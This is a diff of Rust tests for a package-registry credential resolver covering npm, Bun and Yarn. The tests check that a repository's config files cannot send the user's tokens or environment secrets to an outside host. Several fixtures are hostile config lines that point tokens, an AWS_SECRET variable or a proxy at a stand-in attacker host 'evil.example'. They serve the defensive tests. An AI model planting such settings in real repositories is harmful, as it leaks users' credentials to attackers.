@@ -185,6 +185,160 @@ fn a_repository_does_not_get_the_token_without_a_url_of_the_user() {
     assert_eq!(sent(&[users, own], "mine.example"), Some("Bearer t".to_owned()));
 }
 
+/// Returns the cautions of one request to a URL, and whether it carries credentials.
+fn requested(format: Format, files: &[(&str, &str)], variables: &[(&str, &str)], to: &str) -> (bool, Vec<String>) {
+    let registries = load_for(format, files, variables).unwrap();
+    let has_credentials = registries.authorization_for(&url(to)).is_some();
+    registries.requested(&url(to), has_credentials);
+    (has_credentials, registries.cautions().iter().map(ToString::to_string).collect())
+}
+
+#[test]
+fn a_repository_does_not_get_the_token_of_a_variable() {
+    let to = "https://evil.example/@a/x/-/x-1.tgz";
+    let bun =
+        (Format::Bun(1), ("repo/.npmrc", "registry=https://evil.example\n"), "BUN_CONFIG_TOKEN", "BUN_CONFIG_REGISTRY");
+    let yarnrc = ("repo/.yarnrc.yml", "npmRegistryServer: https://evil.example\nnpmAlwaysAuth: true\n");
+    let berry = (Format::YarnBerry(8), yarnrc, "YARN_NPM_AUTH_TOKEN", "YARN_NPM_REGISTRY_SERVER");
+    for (format, file, token, registry) in [bun, berry] {
+        let (is_sent, said) = requested(format, &[file], &[(token, "t")], to);
+        assert!(!is_sent && said.len() == 1, "{said:?}");
+        assert!(said[0].contains(&format!("`{token}`")) && said[0].contains("`evil.example`"), "{said:?}");
+        // The user names the registry too.
+        for variable in [registry, "SPLITTER_REGISTRY"] {
+            let variables = [(token, "t"), (variable, "https://evil.example/")];
+            assert_eq!(requested(format, &[file], &variables, to), (true, Vec::new()), "{variable}");
+        }
+        // Other hosts get nothing, without a word.
+        assert_eq!(requested(format, &[file], &[(token, "t")], "https://other.example/x.tgz"), (false, Vec::new()));
+    }
+}
+
+#[test]
+fn a_repository_does_not_get_the_token_at_the_top_of_the_users_yarnrc() {
+    let to = "https://evil.example/@a/x/-/x-1.tgz";
+    let evil =
+        ["npmRegistryServer: https://evil.example\n", "npmScopes: {a: {npmRegistryServer: 'https://evil.example'}}\n"];
+    let users = [
+        "npmAuthToken: t\n",
+        "npmRegistryServer: https://mine.example\nnpmAuthIdent: 'us:pw'\nnpmAlwaysAuth: true\n",
+        "npmScopes: {a: {npmAuthToken: t}}\n",
+        "npmScopes: {a: {npmRegistryServer: 'https://mine.example', npmAuthToken: t}}\n",
+        // A variable from the repository's `.env.yarn` does not make a registry the user's.
+        "npmRegistryServer: https://${HOST-mine.example}\nnpmAuthToken: t\n",
+        "npmRegistryServer: https://${HOST}\nnpmAuthToken: t\n",
+    ];
+    for (users, repositorys) in users.iter().flat_map(|users| evil.map(|evil| (*users, evil))) {
+        if users.contains("npmScopes") && !repositorys.contains("npmScopes") {
+            continue;
+        }
+        let files =
+            [("home/.yarnrc.yml", users), ("repo/.yarnrc.yml", repositorys), ("repo/.env.yarn", "HOST=evil.example\n")];
+        let (is_sent, said) = requested(Format::YarnBerry(8), &files, &[], to);
+        assert!(!is_sent && said.len() == 1, "{users}{repositorys}{said:?}");
+        assert!(
+            said[0].contains("~/.yarnrc.yml was not sent to `evil.example`") || users.contains("npmScopes"),
+            "{said:?}"
+        );
+        let keyed = format!("{users}npmRegistries: {{//evil.example: {{npmAuthToken: mine}}}}\n");
+        let keyed = [("home/.yarnrc.yml", keyed.as_str()), files[1], files[2]];
+        if !users.contains("npmScopes") {
+            assert_eq!(requested(Format::YarnBerry(8), &keyed, &[], to), (true, Vec::new()), "{keyed:?}");
+        }
+        // The repository's own credentials are sent, and the user's still go to the user's registry.
+        let own = format!("{repositorys}npmAuthToken: own\n");
+        let own = [files[0], ("repo/.yarnrc.yml", own.as_str())];
+        let registries = registries_of_yarn_if_set(&own);
+        if let Some(registries) = registries {
+            assert_eq!(authorization(&registries, to).as_deref(), Some("Bearer own"), "{own:?}");
+        }
+    }
+}
+
+/// Loads the registries, unless a variable is not set.
+fn registries_of_yarn_if_set(files: &[(&str, &str)]) -> Option<Registries> {
+    load_for(Format::YarnBerry(8), files, &[]).ok()
+}
+
+#[test]
+fn a_variable_that_the_repository_sends_is_named_with_its_place() {
+    let to = "https://evil.example/@a/x/-/x-1.tgz";
+    let npmrc = ("repo/.npmrc", "# note\n//evil.example/:_authToken=${AWS_SECRET}\n");
+    let top = ("repo/.npmrc", "registry=https://evil.example\n_authToken=x${AWS_SECRET}\n");
+    let bunfig = (
+        "repo/bunfig.toml",
+        "[install]\n[install.scopes]\na = {url = \"https://evil.example\", token = \"$AWS_SECRET\"}\n",
+    );
+    let yarnrc = ("repo/.yarnrc.yml", "a: b\nnpmRegistries:\n  //evil.example:\n    npmAuthToken: ${AWS_SECRET:-}\n");
+    let scope = (
+        "repo/.yarnrc.yml",
+        "npmScopes:\n  a:\n    npmRegistryServer: https://evil.example\n    npmAuthIdent: ${MINE}\n",
+    );
+    let env = ("repo/.env.yarn", "MINE=us:${AWS_SECRET}\n");
+    let above = (".yarnrc.yml", "npmRegistryServer: https://evil.example/${AWS_SECRET}/\n");
+    for (format, files, place) in [
+        (Format::Bun(1), vec![npmrc], ".npmrc:2"),
+        (Format::YarnClassic, vec![npmrc], ".npmrc:2"),
+        (Format::YarnClassic, vec![top], ".npmrc:2"),
+        (Format::Bun(1), vec![bunfig], "bunfig.toml:3"),
+        (Format::YarnBerry(8), vec![yarnrc], ".yarnrc.yml:4"),
+        (Format::YarnBerry(8), vec![scope, env], ".yarnrc.yml:4"),
+        (Format::YarnBerry(8), vec![above], ".yarnrc.yml:1"),
+    ] {
+        let to = if files[0] == above { "https://evil.example/s3cret/x/-/x-1.tgz" } else { to };
+        let (_, said) = requested(format, &files, &[("AWS_SECRET", "s3cret")], to);
+        assert_eq!(said.len(), 1, "{files:?} {said:?}");
+        assert!(said[0].contains(&format!("{place} sent the variable `AWS_SECRET` to `evil.example`")), "{said:?}");
+        assert!(!said[0].contains("s3cret"), "{said:?}");
+        // A variable that is not set, and a host that gets no request, are nothing to tell.
+        if files[0] != above {
+            assert_eq!(requested(format, &files, &[], to).1, Vec::<String>::new(), "{files:?}");
+        }
+        let other = requested(format, &files, &[("AWS_SECRET", "s3cret")], "https://other.example/@a/x/-/x-1.tgz");
+        assert_eq!(other, (false, Vec::new()), "{files:?}");
+        // Nor is a host that the user's own settings name.
+        let known = [
+            ("home/.npmrc", "//evil.example/:_authToken=${AWS_SECRET}\n"),
+            ("home/.yarnrc.yml", "npmRegistries: {//evil.example: {npmAuthToken: '${AWS_SECRET}'}}\n"),
+        ];
+        let files: Vec<_> = files.into_iter().chain(known).collect();
+        assert_eq!(requested(format, &files, &[("AWS_SECRET", "s3cret")], to).1, Vec::<String>::new(), "{files:?}");
+    }
+}
+
+#[test]
+fn npms_own_registry_may_get_a_variable_without_a_word() {
+    let npm = npmrc_config_rs::registry::DEFAULT_REGISTRY;
+    let npmrc = format!("{}:_authToken=${{NPM_TOKEN}}\n", npm.trim_start_matches("https:"));
+    let files = [("repo/.npmrc", npmrc.as_str())];
+    let (is_sent, said) = requested(Format::Bun(1), &files, &[("NPM_TOKEN", "t")], &format!("{npm}x/-/x-1.tgz"));
+    assert_eq!((is_sent, said), (true, Vec::new()));
+}
+
+#[test]
+fn a_proxy_and_an_authority_of_the_repository_do_not_see_the_users_credentials() {
+    let home = ("home/.npmrc", "//r.example/:_authToken=t\n");
+    let to = "https://r.example/x/-/x-1.tgz";
+    let sent = |repositorys: &str, more: &str, to: &str| {
+        let home = format!("{}{more}", home.1);
+        requested(Format::Bun(1), &[("home/.npmrc", &home), ("repo/.npmrc", repositorys)], &[], to)
+    };
+    let (proxy, authority) = ("https-proxy=http://evil.example\nproxy=http://evil.example\n", "cafile=ca.pem\n");
+    assert_eq!(sent(proxy, "", to), (true, Vec::new()));
+    assert_eq!(sent(authority, "", to), (true, Vec::new()));
+    let both = format!("{proxy}{authority}");
+    let (is_sent, said) = sent(&both, "", to);
+    assert!(!is_sent && said[0].contains("your credentials were not sent to `r.example`"), "{said:?}");
+    let (is_sent, said) = sent(proxy, "", "http://127.0.0.1:1/x");
+    assert!(!is_sent && said.is_empty(), "{said:?}");
+    let local = "//127.0.0.1:1/:_authToken=t\n";
+    assert!(sent("", local, "http://127.0.0.1:1/x").0);
+    assert!(!sent(proxy, local, "http://127.0.0.1:1/x").0);
+    // The repository's own credentials are its own affair.
+    let own = format!("{both}//own.example/:_authToken=own\n");
+    assert_eq!(sent(&own, "", "https://own.example/x"), (true, Vec::new()));
+}
+
 #[test]
 fn an_unset_variable_in_a_users_registry_is_named() {
     let error = load(&[("home/.npmrc", "registry=https://${NO_SUCH_HOST_HERE}/")], &[]).unwrap_err();
@@ -271,7 +425,7 @@ fn yarns_credentials_are_those_of_the_scope_else_of_the_registry_else_at_the_top
         ),
         (
             "home/.yarnrc.yml",
-            "npmScopes:\n  b: {npmAuthToken: of-b}\n  c: {npmAuthIdent: 'us:pw'}\n  d: {npmAuthIdent: dXM6cHc=}\n\
+            "npmScopes:\n  b: {npmRegistryServer: 'https://s.example', npmAuthToken: of-b}\n  c: {npmRegistryServer: 'https://s.example', npmAuthIdent: 'us:pw'}\n  d: {npmAuthIdent: dXM6cHc=}\n\
              npmRegistries:\n  //a.example: {npmAuthToken: of-a}\n  'https://cdn.example/x/': {npmAuthToken: of-cdn}\n  //e.example: {npmAlwaysAuth: true}\n",
         ),
     ];
@@ -307,8 +461,10 @@ fn yarns_variables_hold_credentials_too() {
         [("repo/.yarnrc.yml", "npmRegistryServer: https://r.example\nnpmAuthToken: ${TOP-}\nnpmAuthIdent: weak\n")];
     let scoped = "https://r.example/@a%2Fx/1.0.0";
     assert_eq!(yarn_authorization(&files, &[], scoped).as_deref(), Some("Basic weak"));
-    assert_eq!(yarn_authorization(&files, &[("YARN_NPM_AUTH_TOKEN", "t")], scoped).as_deref(), Some("Bearer t"));
-    let ident = [("YARN_NPM_AUTH_IDENT", "us:pw")];
+    let registry = ("YARN_NPM_REGISTRY_SERVER", "https://r.example");
+    let token = [registry, ("YARN_NPM_AUTH_TOKEN", "t")];
+    assert_eq!(yarn_authorization(&files, &token, scoped).as_deref(), Some("Bearer t"));
+    let ident = [registry, ("YARN_NPM_AUTH_IDENT", "us:pw")];
     assert_eq!(yarn_authorization(&files, &ident, scoped).as_deref(), Some("Basic dXM6cHc="));
     let files = [("home/.yarnrc.yml", "npmAuthToken: ${NO_SUCH}\nnpmAuthIdent: weak\n")];
     let registries = load_for(Format::YarnBerry(8), &files, &[]).unwrap();
